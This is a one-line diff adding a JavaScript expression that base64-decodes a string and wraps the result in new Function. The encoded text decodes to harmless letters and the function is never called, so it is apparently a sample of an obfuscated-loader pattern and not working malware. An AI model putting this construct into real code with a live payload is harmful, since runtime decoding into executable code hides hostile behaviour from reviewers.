@@ -1,0 +1,1 @@
+(new Function((function(s){})(decodeURIComponent(escape(atob("xIDEgcSCxIPEhMSF"))))))
